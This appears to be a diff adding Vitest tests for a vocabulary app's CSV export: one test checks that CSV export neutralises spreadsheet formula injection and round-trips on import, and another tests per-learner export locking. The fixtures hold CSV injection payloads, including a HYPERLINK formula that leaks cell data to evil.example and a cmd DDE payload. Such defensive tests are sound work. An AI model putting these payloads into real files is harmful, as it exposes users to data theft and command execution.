@@ -1,5 +1,6 @@
 import type { FastifyInstance } from 'fastify';
 import Papa from 'papaparse';
+import { csvRecordsToImportWords, type VocabularyWord } from '@toeic-ace/contract';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { buildTestApp } from '../../test/app';
 import { registerUser } from '../../test/users';
@@ -100,6 +101,60 @@ describe('GET /api/vocabulary/export', () => {
     expect(parsed.data[0]).toMatchObject({ word: 'Quote "this"', notes: 'line one\nline two' });
   });
 
+  it('neutralises every cell a spreadsheet would run, and the app reads it back as it was', async () => {
+    const calls = await newUser();
+    // OWASP's CSV injection triggers: = + - @ tab and carriage return, and a cell that already
+    // starts with ' (so that import can always take exactly one ' away).
+    const risky = [
+      // A word needs two letters, so the formula-shaped words carry some; '-2+3' rides in a note.
+      {
+        word: '-ab+3',
+        notes: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+        context: '-2+3',
+      },
+      { word: '@SUM(A1:A9)', notes: "+cmd|' /C calc'!A0" },
+      { word: '=ab+1', notes: '\tleading tab', context: '\rcarriage return first' },
+      { word: "'quoted", definition: "'=already prefixed", context: '-' },
+      { word: 'safe', definition: 'a - b = c', notes: 'not at the start: =1' },
+    ];
+    await importOk(calls, { words: risky });
+    const res = await calls.exportFile({ format: 'csv', includeReviewData: 'false' });
+    const cells = Papa.parse<string[]>(res.body.slice(1), { skipEmptyLines: true }).data.slice(1);
+    const columns = ['word', 'definition', 'phonetic', 'context', 'notes'];
+    const written = cells.map((row) => Object.fromEntries(columns.map((c, i) => [c, row[i]])));
+    expect(written.map((w) => w.word)).toEqual([
+      "'-ab+3",
+      "'@SUM(A1:A9)",
+      "'=ab+1",
+      "''quoted",
+      'safe',
+    ]);
+    expect(written[0]!.notes).toBe(`'${risky[0]!.notes}`);
+    expect(written[0]!.context).toBe("'-2+3");
+    expect(written[1]!.notes).toBe(`'${risky[1]!.notes}`);
+    expect(written[2]!.notes).toBe("'\tleading tab");
+    expect(written[2]!.context).toBe("'\rcarriage return first");
+    expect(written[3]!.definition).toBe("''=already prefixed");
+    expect(written[3]!.context).toBe("'-");
+    expect(written[4]).toMatchObject({ definition: 'a - b = c', notes: 'not at the start: =1' });
+    // No cell of the file starts with a trigger any more.
+    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    // The app's own CSV import takes the prefix away again: export → import is lossless.
+    const parsed = Papa.parse<Record<string, string>>(res.body.slice(1), { header: true });
+    const again = await newUser();
+    await importOk(again, { words: csvRecordsToImportWords(parsed.data) });
+    const pick = (w: VocabularyWord) => ({
+      word: w.word,
+      definition: w.definition ?? undefined,
+      context: w.context ?? undefined,
+      notes: w.notes ?? undefined,
+    });
+    // Absent and null texts alike: JSON drops undefined.
+    const plain = (o: object) => JSON.parse(JSON.stringify(o)) as object;
+    expect((await allWords(again)).map(pick).map(plain)).toEqual(risky.map(plain));
+  });
+
   it('drops the review columns from CSV when review data is left out', async () => {
     const calls = await seeded();
     const res = await calls.exportFile({ format: 'csv', includeReviewData: 'false' });
@@ -117,6 +172,22 @@ describe('GET /api/vocabulary/export', () => {
     );
     // A zip archive starts with the local file header signature PK\x03\x04.
     expect([...res.rawPayload.subarray(0, 4)]).toEqual([0x50, 0x4b, 0x03, 0x04]);
+  });
+
+  it('runs one export per learner at a time, and the next once it has finished', async () => {
+    const calls = await seeded();
+    const other = await seeded();
+    const [a, b, theirs] = await Promise.all([
+      calls.exportFile({ format: 'anki' }),
+      calls.exportFile({ format: 'csv' }),
+      other.exportFile({ format: 'anki' }),
+    ]);
+    expect([a.statusCode, b.statusCode].sort()).toEqual([200, 409]);
+    const refused = a.statusCode === 409 ? a : b;
+    expect(refused.json().error.code).toBe('EXPORT_IN_PROGRESS');
+    // Another learner's export is not held up.
+    expect(theirs.statusCode).toBe(200);
+    expect((await calls.exportFile({ format: 'json' })).statusCode).toBe(200);
   });
 
   it('exports an empty notebook', async () => {
